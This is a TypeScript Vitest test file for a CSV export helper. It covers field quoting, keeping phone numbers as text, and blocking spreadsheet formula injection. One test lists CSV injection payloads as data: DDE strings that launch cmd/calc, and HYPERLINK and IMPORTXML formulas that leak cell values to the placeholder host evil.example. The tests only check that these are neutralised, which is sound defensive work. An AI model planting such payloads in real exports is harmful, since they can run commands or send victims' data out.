import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from './csv';

/** What a spreadsheet reads in the cell: the field without its quotes. */
const cell = (value: unknown) => csvField(value).slice(1, -1).replace(/""/g, '"');

// What starts a formula in Excel, LibreOffice or Google Sheets (full-width forms in East Asian Excel).
const STARTS_FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('CSV fields', () => {
  it('keeps commas, quotes, line breaks and non-Latin text', () => {
    expect(csvField('Sharma, Priya')).toBe('"Sharma, Priya"');
    expect(csvField('He said "hello"')).toBe('"He said ""hello"""');
    expect(csvField('line one\nline two')).toBe('"line one\nline two"');
    expect(csvField(null)).toBe('""');
    expect(toCsv(['Name'], [['प्रिया']])).toBe('\uFEFF"Name"\r\n"प्रिया"\r\n');
  });

  it('writes phone numbers as readers type them, without an apostrophe', () => {
    // A leading + would start a formula: a space before it keeps the number as text.
    for (const phone of [
      '+91 98765 43210',
      '+1-555-010-0199',
      '+44 (20) 7946 0958',
      '+919876543210',
      '+61.2.9374.4000',
    ]) {
      expect(cell(phone), phone).toBe(` ${phone}`);
    }
    for (const phone of ['(022) 2345 6789', '0091 98765 43210', '098765 43210', '98765-43210']) {
      expect(cell(phone), phone).toBe(phone);
    }
  });

  it('turns every formula into text a spreadsheet shows and never runs', () => {
    const attacks = [
      `=cmd|' /C calc'!A0`,
      `=DDE("cmd";"/C calc";"!A0")`,
      `+cmd|' /C notepad'!A0`,
      `-cmd|' /C calc'!A0`,
      `@SUM(1+1)*cmd|' /C calc'!A0`,
      `=HYPERLINK("https://evil.example/?leak="&A2,"Click for your results")`,
      `+HYPERLINK("https://evil.example")`,
      '-2+3',
      '@SUM(A1:A9)',
      '=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
      '\t=1+1',
      '\r=1+1',
      ' =1+1',
      '\u00A0@SUM(A1)',
      '\uFF1D1+1',
      '\uFF0BSUM(A1)',
      '+91 98765 43210=cmd|calc', // a phone number's start does not make the rest harmless
      '-1+2 ',
    ];
    for (const attack of attacks) {
      expect(cell(attack), JSON.stringify(attack)).toBe(`'${attack}`);
    }
    // Nothing written starts a formula, phone numbers included.
    for (const written of [...attacks, '+91 98765 43210', '+1-555-010-0199'].map(cell)) {
      expect(written, JSON.stringify(written)).not.toMatch(STARTS_FORMULA);
    }
  });

  it('leaves ordinary text as it is', () => {
    for (const text of [
      'Priya Sharma',
      'Is USMLE Step 2 hard? -Priya',
      'a=b',
      'user@example.org',
      '12/05/2026 10:30',
    ]) {
      expect(cell(text)).toBe(text);
    }
  });
});
